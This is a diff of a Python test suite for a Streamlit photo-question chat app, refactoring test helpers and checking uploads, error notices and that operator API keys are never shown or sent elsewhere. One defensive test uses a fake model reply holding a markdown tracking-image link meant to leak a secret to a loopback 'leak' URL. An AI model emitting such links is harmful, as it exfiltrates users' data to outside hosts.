@@ -29,65 +29,22 @@ from components.ui import session
 from components.ui import state_keys as keys
 from components.ui.camera import make_shot
 from tests.conftest import ROOT
+from tests.helpers import (
+    OPERATOR_KEY,
+    assistant_text,
+    configured_app,
+    jpeg_bytes,
+    no_exception,
+    page_texts,
+    started_app,
+)
 from tests.state_walk import find_text, walk
 
-OPERATOR_KEY = "operator-secret-key-123456"
 VISITOR_KEY = "visitor-typed-key-987654"
 USAGE = {"prompt_tokens": 8511, "completion_tokens": 34, "total_tokens": 8545}
 
 
-def _jpeg(color=(240, 140, 40), size=(640, 480)) -> bytes:
-    buf = io.BytesIO()
-    Image.new("RGB", size, color).save(buf, "JPEG")
-    return buf.getvalue()
-
-
 pytestmark = pytest.mark.usefixtures("isolated_secrets")
-
-
-def _entry_app_test() -> AppTest:
-    """Return an AppTest that runs the entry script on every rerun, as a browser session does.
-
-    AppTest 1.67 re-requests the page a multipage app finished on, and the main script's sidebar
-    (language, provider, key) is then missing from the next run's tree.
-    """
-    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=30)
-    run_once = at._run
-
-    def run_from_entry(*args, **kwargs):
-        at._finished_page_script_hash = ""
-        return run_once(*args, **kwargs)
-
-    at._run = run_from_entry
-    return at
-
-
-def _app(lang: str = "zh", secrets: dict | None = None) -> AppTest:
-    at = _entry_app_test()
-    if secrets:
-        at.secrets.update(secrets)
-    at.session_state[keys.LANG] = lang
-    return at.run()
-
-
-def _configured(up: FakeUpstream, lang: str = "zh") -> AppTest:
-    return _app(lang, {"KANTU_BASE_URL": up.base_url, "KANTU_API_KEY": OPERATOR_KEY})
-
-
-def _texts(at: AppTest) -> str:
-    parts = [m.value for m in at.markdown] + [c.value for c in at.caption]
-    parts += [e.value for e in [*at.error, *at.warning, *at.info]]
-    return "\n".join(str(p) for p in parts)
-
-
-def _assistant_text(at: AppTest) -> str:
-    messages = [m for m in at.chat_message if m.name == "assistant"]
-    assert messages, "no assistant message on the page"
-    return "\n".join(md.value for md in messages[-1].markdown)
-
-
-def _no_exception(at: AppTest) -> None:
-    assert not at.exception, [e.value for e in at.exception]
 
 
 # Run in a fresh interpreter: which modules the first question loads depends on what ran before.
@@ -118,7 +75,9 @@ def test_first_question_loads_nothing_new_on_its_way_to_the_provider():
     done = subprocess.run(
         [sys.executable, "-c", FIRST_QUESTION],
         cwd=ROOT,
-        input=_jpeg(size=(1200, 900)),  # made here: the child must not have loaded Pillow's codecs
+        input=jpeg_bytes(
+            size=(1200, 900)
+        ),  # made here: the child must not have loaded Pillow's codecs
         capture_output=True,
         timeout=120,
     )
@@ -129,26 +88,28 @@ def test_first_question_loads_nothing_new_on_its_way_to_the_provider():
 
 
 def test_starts_without_secrets_and_says_how_to_get_a_key():
-    at = _app("zh")
-    _no_exception(at)
-    text = _texts(at)
+    at = started_app("zh")
+    no_exception(at)
+    text = page_texts(at)
     assert "冰橙云" in text and "yewu.bcwhkj.cn" in text  # the spec's two routes to a token
     assert t("welcome.example_1", "zh") in [b.label for b in at.button]  # a clickable example
-    at_en = _app("en")
-    _no_exception(at_en)
+    at_en = started_app("en")
+    no_exception(at_en)
     # Without a key the local reader is chosen (issue 13); 冰橙 without a key says so.
     provider = at_en.selectbox(key=keys.choice_key(keys.PROVIDER, "en"))
     provider.set_value("bingcheng").run()
-    _no_exception(at_en)
-    assert "No API key yet" in _texts(at_en)
+    no_exception(at_en)
+    assert "No API key yet" in page_texts(at_en)
 
 
 def test_upload_and_ask_streams_the_answer_with_the_photo(upstream):
     upstream.enqueue(sse(["这是一张", "橙子的", "图标。"], usage=USAGE))
-    at = _configured(upstream)
-    at.chat_input[0].upload("orange.jpg", _jpeg(), "image/jpeg").set_value("这是什么图片?").run()
-    _no_exception(at)
-    assert "这是一张橙子的图标。" in _assistant_text(at)
+    at = configured_app(upstream)
+    at.chat_input[0].upload("orange.jpg", jpeg_bytes(), "image/jpeg").set_value(
+        "这是什么图片?"
+    ).run()
+    no_exception(at)
+    assert "这是一张橙子的图标。" in assistant_text(at)
     request = upstream.requests[-1]
     assert request.headers["Authorization"] == f"Bearer {OPERATOR_KEY}"
     content = request.json["messages"][-1]["content"]
@@ -159,18 +120,18 @@ def test_upload_and_ask_streams_the_answer_with_the_photo(upstream):
     images = user.get("image")
     assert len(images) == 1 and len(images[0].value) == 1  # the photo is in the conversation
     assert "tokens" in images[0].captions[0]
-    assert "8,511" in _texts(at)  # the quiet line under the answer shows the billed tokens
+    assert "8,511" in page_texts(at)  # the quiet line under the answer shows the billed tokens
 
 
 def test_rerun_encodes_no_picture_again(upstream, monkeypatch):
-    at = _configured(upstream, "en")
+    at = configured_app(upstream, "en")
     chat = at.chat_input[0]
-    chat.upload("photo.jpg", _jpeg(size=(1600, 1200)), "image/jpeg")
-    chat.upload("panorama.jpg", _jpeg(size=(4000, 1500)), "image/jpeg")  # sent 2048 px wide
+    chat.upload("photo.jpg", jpeg_bytes(size=(1600, 1200)), "image/jpeg")
+    chat.upload("panorama.jpg", jpeg_bytes(size=(4000, 1500)), "image/jpeg")  # sent 2048 px wide
     chat.set_value("Hi").run()
     # the camera's trigger
     session.state_in(at.session_state, session.CameraState).shot = make_shot(
-        _jpeg(size=(1920, 1080))
+        jpeg_bytes(size=(1920, 1080))
     )
     at.run()
     assert len(at.get("image")) == 3  # the sent pictures, and the camera's photo waiting
@@ -180,30 +141,30 @@ def test_rerun_encodes_no_picture_again(upstream, monkeypatch):
         Image.Image, "save", lambda im, *a, **k: encodes.append(im.format) or save(im, *a, **k)
     )
     at.run()  # what any click does: the whole page is drawn again
-    _no_exception(at)
+    no_exception(at)
     assert len(at.get("image")) == 3
     assert encodes == []  # thumbnails are the prepared bytes; the photo was prepared once
 
 
 def test_image_only_message_asks_the_default_question(upstream):
-    at = _configured(upstream, "en")
-    at.chat_input[0].upload("a.jpg", _jpeg(), "image/jpeg").run()
-    _no_exception(at)
+    at = configured_app(upstream, "en")
+    at.chat_input[0].upload("a.jpg", jpeg_bytes(), "image/jpeg").run()
+    no_exception(at)
     content = upstream.requests[-1].json["messages"][-1]["content"]
     assert {"type": "text", "text": "What is in this picture?"} in content
 
 
 def test_follow_up_carries_the_earlier_turn_and_its_image(upstream):
     upstream.enqueue(sse(["一个橙子。"]), sse(["橙色。"]))
-    at = _configured(upstream)
-    at.chat_input[0].upload("a.jpg", _jpeg(), "image/jpeg").set_value("这是什么?").run()
+    at = configured_app(upstream)
+    at.chat_input[0].upload("a.jpg", jpeg_bytes(), "image/jpeg").set_value("这是什么?").run()
     at.chat_input[0].set_value("什么颜色?").run()
-    _no_exception(at)
+    no_exception(at)
     messages = upstream.requests[-1].json["messages"]
     roles = [m["role"] for m in messages if m["role"] != "system"]
     assert roles == ["user", "assistant", "user"]
     assert any(p["type"] == "image_url" for p in messages[0]["content"])
-    assert "橙色。" in _assistant_text(at)
+    assert "橙色。" in assistant_text(at)
 
 
 # (reply, message key, main action). The configured key is the site's, so a refused key says so.
@@ -262,9 +223,9 @@ def _notice_outside_bubbles(at: AppTest) -> None:
 )
 def test_provider_error_is_a_notice_whose_main_action_fits(upstream, reply, key, action, lang):
     upstream.default = reply
-    at = _configured(upstream, lang)
+    at = configured_app(upstream, lang)
     at.chat_input[0].set_value("这是什么图片?").run()
-    _no_exception(at)
+    no_exception(at)
     errors = [e.value for e in at.error]
     expected = t(key, lang, model="gpt-4o-mini").split("“")[0]
     assert any(expected in e for e in errors), errors
@@ -291,14 +252,14 @@ def test_provider_error_is_a_notice_whose_main_action_fits(upstream, reply, key,
 @pytest.mark.parametrize("lang", ["zh", "en"])
 def test_refused_site_key_never_blames_the_visitor_and_points_to_the_key_field(upstream, lang):
     upstream.default = bingcheng_error(900)
-    at = _configured(upstream, lang)
+    at = configured_app(upstream, lang)
     at.chat_input[0].set_value("你好").run()
-    _no_exception(at)
-    shown = _texts(at)
+    no_exception(at)
+    shown = page_texts(at)
     assert t("error.operator_key_refused", lang) in shown
     assert t("error.auth", lang) not in shown  # "check your key": a key they never entered
     at.button(key="action_2").click().run()
-    _no_exception(at)
+    no_exception(at)
     scripts = [h.proto.body for h in at.get("html")]
     assert any(f".st-key-{keys.API_KEY} input" in body for body in scripts)
     at.run()
@@ -306,17 +267,17 @@ def test_refused_site_key_never_blames_the_visitor_and_points_to_the_key_field(u
     # The visitor's own key, once entered, is what Retry sends; a refusal of it is theirs.
     at.text_input(key=keys.API_KEY).set_value(VISITOR_KEY).run()
     at.button(key="retry_2").click().run()
-    _no_exception(at)
+    no_exception(at)
     assert upstream.requests[-1].headers["Authorization"] == f"Bearer {VISITOR_KEY}"
     assert t("error.auth", lang) in [e.value for e in at.error]
-    assert t("error.operator_key_refused", lang) not in _texts(at)
+    assert t("error.operator_key_refused", lang) not in page_texts(at)
 
 
 def test_vendor_900_says_where_to_get_a_token_without_repeating_itself(upstream):
     upstream.default = bingcheng_error(900)
-    at = _configured(upstream, "zh")
+    at = configured_app(upstream, "zh")
     at.chat_input[0].set_value("你好").run()
-    text = _texts(at)
+    text = page_texts(at)
     assert "冰橙云" in text and "yewu.bcwhkj.cn" in text
     assert t("error.provider_said", "zh", detail="") not in text  # its words repeat the message
 
@@ -324,9 +285,9 @@ def test_vendor_900_says_where_to_get_a_token_without_repeating_itself(upstream)
 @pytest.mark.parametrize("lang", ["zh", "en"])
 def test_provider_words_show_when_they_add_something(upstream, lang):
     upstream.default = openai_error(400, "Invalid image: unsupported MIME type image/x-icon")
-    at = _configured(upstream, lang)
+    at = configured_app(upstream, lang)
     at.chat_input[0].set_value("hi").run()
-    _no_exception(at)
+    no_exception(at)
     assert t(
         "error.provider_said", lang, detail="Invalid image: unsupported MIME type image/x-icon"
     ) in [c.value for c in at.caption]
@@ -335,35 +296,35 @@ def test_provider_words_show_when_they_add_something(upstream, lang):
 @pytest.mark.parametrize("lang", ["zh", "en"])
 def test_rephrase_puts_the_question_back_in_the_input(upstream, lang):
     upstream.default = bingcheng_error(402)
-    at = _configured(upstream, lang)
+    at = configured_app(upstream, lang)
     at.chat_input[0].set_value("这张图里的人是谁？").run()
     assert not at.chat_input[0].proto.set_value
     at.button(key="action_2").click().run()
-    _no_exception(at)
+    no_exception(at)
     assert at.chat_input[0].proto.set_value
     assert at.chat_input[0].proto.value == "这张图里的人是谁？"
 
 
 @pytest.mark.parametrize("lang", ["zh", "en"])
 def test_custom_provider_key_help_says_where_keys_come_from(lang):
-    at = _app(lang)
+    at = started_app(lang)
     at.selectbox(key=keys.choice_key(keys.PROVIDER, lang)).set_value("custom").run()
-    _no_exception(at)
-    shown = _texts(at)
+    no_exception(at)
+    shown = page_texts(at)
     assert t("key_help.custom", lang) in shown
     assert "--api-key" in shown and ("API keys" in shown or "API 密钥" in shown)
 
 
 def test_cut_stream_keeps_partial_answer_and_retry_replaces_it(upstream):
     upstream.enqueue(sse(["前半句，", "后半句"], cut_after=1), sse(["完整的回答。"]))
-    at = _configured(upstream, "zh")
+    at = configured_app(upstream, "zh")
     at.chat_input[0].set_value("讲一下").run()
-    _no_exception(at)
-    assert "前半句" in _assistant_text(at)
+    no_exception(at)
+    assert "前半句" in assistant_text(at)
     assert t("error.interrupted", "zh") in [w.value for w in at.warning]
     at.button(key="retry_2").click().run()
-    _no_exception(at)
-    assert "完整的回答。" in _assistant_text(at)
+    no_exception(at)
+    assert "完整的回答。" in assistant_text(at)
     assert [m.name for m in at.chat_message] == ["user", "assistant"]
     assert len(upstream.requests) == 2
 
@@ -384,12 +345,12 @@ def _stopped_before_the_first_word(
 
 @pytest.mark.parametrize("lang", ["zh", "en"])
 def test_answer_stopped_before_its_first_word_shows_stopped_with_retry(upstream, lang):
-    at = _configured(upstream, lang)
+    at = configured_app(upstream, lang)
     conv, exchange = _stopped_before_the_first_word(upstream, "这是什么？")
     session.state_in(at.session_state, session.ChatState).conversation = conv
     session.state_in(at.session_state, session.ChatState).exchange = exchange
     at.run()
-    _no_exception(at)
+    no_exception(at)
     assert [m.name for m in at.chat_message] == ["user", "assistant"]
     assert t("chat.status_stopped_empty", lang) in [i.value for i in at.info]
     assert at.button(key="retry_2").label == t("chat.retry", lang)
@@ -397,22 +358,22 @@ def test_answer_stopped_before_its_first_word_shows_stopped_with_retry(upstream,
     assert session.state_in(at.session_state, session.ChatState).exchange is None
     upstream.enqueue(sse(["一个橙子。"]))
     at.button(key="retry_2").click().run()
-    _no_exception(at)
-    assert "一个橙子。" in _assistant_text(at)
+    no_exception(at)
+    assert "一个橙子。" in assistant_text(at)
     assert [m["role"] for m in upstream.requests[-1].json["messages"]] == ["user"]
     assert [(e.role, e.status) for e in conv.entries] == [("user", "ok"), ("assistant", "ok")]
 
 
 def test_question_after_a_stopped_answer_goes_as_one_user_turn(upstream):
-    at = _configured(upstream, "zh")
+    at = configured_app(upstream, "zh")
     conv, exchange = _stopped_before_the_first_word(upstream, "这是什么？")
     session.state_in(at.session_state, session.ChatState).conversation = conv
     session.state_in(at.session_state, session.ChatState).exchange = exchange
     at.run()
     upstream.enqueue(sse(["橙色。"]))
     at.chat_input[0].set_value("什么颜色？").run()
-    _no_exception(at)
-    assert "橙色。" in _assistant_text(at)
+    no_exception(at)
+    assert "橙色。" in assistant_text(at)
     messages = upstream.requests[-1].json["messages"]
     assert messages == [{"role": "user", "content": "这是什么？\n\n什么颜色？"}]
     assert [m.name for m in at.chat_message] == ["user", "assistant", "user", "assistant"]
@@ -420,12 +381,12 @@ def test_question_after_a_stopped_answer_goes_as_one_user_turn(upstream):
 
 
 def test_refused_image_is_named_while_the_others_still_go(upstream):
-    at = _configured(upstream, "en")
+    at = configured_app(upstream, "en")
     chat = at.chat_input[0]
-    chat.upload("good.jpg", _jpeg(), "image/jpeg")
+    chat.upload("good.jpg", jpeg_bytes(), "image/jpeg")
     chat.upload("broken.png", b"\x89PNG\r\n\x1a\nnot really", "image/png")
     chat.set_value("Compare").run()
-    _no_exception(at)
+    no_exception(at)
     warnings = " ".join(w.value for w in at.warning)
     assert "broken.png" in warnings
     content = upstream.requests[-1].json["messages"][-1]["content"]
@@ -434,30 +395,30 @@ def test_refused_image_is_named_while_the_others_still_go(upstream):
 
 @pytest.mark.parametrize("lang", ["zh", "en"])
 def test_eleven_pictures_in_one_message_are_refused_before_sending_with_the_cap(upstream, lang):
-    at = _configured(upstream, lang)
+    at = configured_app(upstream, lang)
     chat = at.chat_input[0]
     for i in range(11):
         chat.upload(f"p{i}.jpg", make.photo_jpeg(160 + i, 120), "image/jpeg")
     chat.set_value("这些是什么？").run()
-    _no_exception(at)
+    no_exception(at)
     assert upstream.requests == []  # nothing went out
     shown = " ".join(e.value for e in at.error)
     assert t("error.too_many_images", lang, count=11, cap=10) in shown
     # the question stays in the history, and is not sent again with the next one
     upstream.enqueue(sse(["一张照片。"]))
-    at.chat_input[0].upload("one.jpg", _jpeg(), "image/jpeg").set_value("这张呢？").run()
-    _no_exception(at)
+    at.chat_input[0].upload("one.jpg", jpeg_bytes(), "image/jpeg").set_value("这张呢？").run()
+    no_exception(at)
     content = upstream.requests[-1].json["messages"]
     assert len(content) == 1 and content[0]["content"][0]["text"] == "这张呢？"
 
 
 @pytest.mark.parametrize("lang", ["zh", "en"])
 def test_only_refused_images_send_nothing_and_put_the_text_back(upstream, lang):
-    at = _configured(upstream, lang)
+    at = configured_app(upstream, lang)
     at.chat_input[0].upload("notes.jpg", b"just text, not a picture", "image/jpeg").set_value(
         "What is this?"
     ).run()
-    _no_exception(at)
+    no_exception(at)
     assert upstream.requests == []
     user = [m for m in at.chat_message if m.name == "user"][-1]
     assert "What is this?" in user.text[0].value
@@ -469,8 +430,8 @@ def test_only_refused_images_send_nothing_and_put_the_text_back(upstream, lang):
     assert at.chat_input[0].proto.set_value  # nothing to retype
     assert at.chat_input[0].proto.value == "What is this?"
     upstream.enqueue(sse(["一张照片。"]))
-    at.chat_input[0].upload("one.jpg", _jpeg(), "image/jpeg").set_value("What is this?").run()
-    _no_exception(at)
+    at.chat_input[0].upload("one.jpg", jpeg_bytes(), "image/jpeg").set_value("What is this?").run()
+    no_exception(at)
     assert len(upstream.requests) == 1
 
 
@@ -478,7 +439,7 @@ def test_operator_key_is_not_sent_to_a_changed_base_url(upstream):
     with FakeUpstream() as elsewhere:
         elsewhere.default = openai_error(401, "No auth provided", "invalid_request_error")
         # not hosted: "elsewhere" is on loopback, which hosted mode refuses for a custom URL
-        at = _app(
+        at = started_app(
             "en",
             {
                 "KANTU_BASE_URL": upstream.base_url,
@@ -489,39 +450,39 @@ def test_operator_key_is_not_sent_to_a_changed_base_url(upstream):
         at.selectbox(key=keys.choice_key(keys.PROVIDER, "en")).set_value("custom").run()
         at.text_input(key=keys.BASE_URL).set_value(elsewhere.base_url).run()
         at.chat_input[0].set_value("hi").run()
-        _no_exception(at)
+        no_exception(at)
         assert not any(
             OPERATOR_KEY in r.headers.get("Authorization", "") for r in elsewhere.requests
         )
-        assert t("config.operator_key_withheld", "en") in _texts(at)
+        assert t("config.operator_key_withheld", "en") in page_texts(at)
         assert any(t("error.auth", "en") in e.value for e in at.error)
         elsewhere.default = sse(["ok"])
         at.text_input(key=keys.API_KEY).set_value("visitor-own-key").run()
         at.button(key="retry_2").click().run()
-        _no_exception(at)
+        no_exception(at)
         assert elsewhere.requests[-1].headers["Authorization"] == "Bearer visitor-own-key"
 
 
 def test_configured_key_is_never_shown(upstream):
-    at = _configured(upstream, "zh")
-    assert t("sidebar.using_configured_key", "zh") in _texts(at)
+    at = configured_app(upstream, "zh")
+    assert t("sidebar.using_configured_key", "zh") in page_texts(at)
     assert at.text_input(key=keys.API_KEY).value == ""
-    assert OPERATOR_KEY not in _texts(at)
+    assert OPERATOR_KEY not in page_texts(at)
 
 
 def test_answer_cannot_load_a_tracking_image(upstream):
     upstream.enqueue(
         sse(["见 ![x](http://127.0.0.1:9/leak?q=secret)", " 和 [文档](https://example.org/d)"])
     )
-    at = _configured(upstream, "zh")
+    at = configured_app(upstream, "zh")
     at.chat_input[0].set_value("读一下图里的字").run()
-    answer = _assistant_text(at)
+    answer = assistant_text(at)
     assert "![x](" not in answer
     assert "https://example.org/d" in answer  # links show their address
 
 
 def test_language_switch_changes_the_interface():
-    at = _app("zh")
+    at = started_app("zh")
     assert at.chat_input[0].placeholder == t("chat.placeholder", "zh")
     at.button_group(key=keys.choice_key(keys.LANG, "zh")).set_value("en").run()
     assert at.chat_input[0].placeholder == t("chat.placeholder", "en")
@@ -532,11 +493,11 @@ def test_language_switch_changes_the_interface():
 
 
 def test_new_chat_starts_over(upstream):
-    at = _configured(upstream, "en")
-    at.chat_input[0].upload("a.jpg", _jpeg(), "image/jpeg").set_value("What is it?").run()
+    at = configured_app(upstream, "en")
+    at.chat_input[0].upload("a.jpg", jpeg_bytes(), "image/jpeg").set_value("What is it?").run()
     assert len(at.chat_message) == 2
     at.button(key=keys.NEW_CHAT).click().run()
-    _no_exception(at)
+    no_exception(at)
     assert len(at.chat_message) == 0
     assert t("layout.heading", "en") in [h.value for h in at.title]  # the welcome is back
     # the pictures are gone too
@@ -547,29 +508,29 @@ def test_new_chat_starts_over(upstream):
 def test_unreachable_provider_is_a_network_error(lang):
     with FakeUpstream() as gone:
         base_url = gone.base_url
-    at = _app(lang, {"KANTU_BASE_URL": base_url, "KANTU_API_KEY": OPERATOR_KEY})
+    at = started_app(lang, {"KANTU_BASE_URL": base_url, "KANTU_API_KEY": OPERATOR_KEY})
     at.chat_input[0].set_value("hi").run()
-    _no_exception(at)
+    no_exception(at)
     assert t("error.network", lang) in [e.value for e in at.error]
 
 
 @pytest.mark.parametrize("lang", ["zh", "en"])
 def test_silent_provider_is_a_timeout_after_the_configured_wait(upstream, lang):
     upstream.default = sse(["late"], delay=5)  # nothing for 5 s
-    at = _configured(upstream, lang)
+    at = configured_app(upstream, lang)
     at.number_input(key=keys.READ_TIMEOUT).set_value(1).run()
     at.chat_input[0].set_value("hi").run()
-    _no_exception(at)
+    no_exception(at)
     assert t("error.timeout", lang) in [e.value for e in at.error]
 
 
 def test_session_state_holds_no_key_uploads_or_base64_anywhere(upstream):
-    at = _configured(upstream, "en")
-    at.chat_input[0].upload("a.jpg", _jpeg(), "image/jpeg").set_value("What is it?").run()
+    at = configured_app(upstream, "en")
+    at.chat_input[0].upload("a.jpg", jpeg_bytes(), "image/jpeg").set_value("What is it?").run()
     assert upstream.requests[-1].headers["Authorization"] == f"Bearer {OPERATOR_KEY}"
     at.text_input(key=keys.API_KEY).set_value(VISITOR_KEY).run()
     at.chat_input[0].set_value("And now?").run()
-    _no_exception(at)
+    no_exception(at)
     assert upstream.requests[-1].headers["Authorization"] == f"Bearer {VISITOR_KEY}"
     conv = session.state_in(at.session_state, session.ChatState).conversation
     assert len(conv.images) == 1  # the picture is stored once, as prepared bytes
@@ -594,9 +555,9 @@ def test_animated_gif_says_only_its_first_frame_is_sent(upstream):
     frames = [Image.new("RGB", (80, 60), c) for c in ((255, 0, 0), (0, 255, 0), (0, 0, 255))]
     buf = io.BytesIO()
     frames[0].save(buf, "GIF", save_all=True, append_images=frames[1:])
-    at = _configured(upstream, "en")
+    at = configured_app(upstream, "en")
     at.chat_input[0].upload("anim.gif", buf.getvalue(), "image/gif").set_value("What?").run()
-    _no_exception(at)
+    no_exception(at)
     user = [m for m in at.chat_message if m.name == "user"][-1]
     caption = user.get("image")[0].captions[0]
     assert t("source.frames", "en", frames=3) in caption
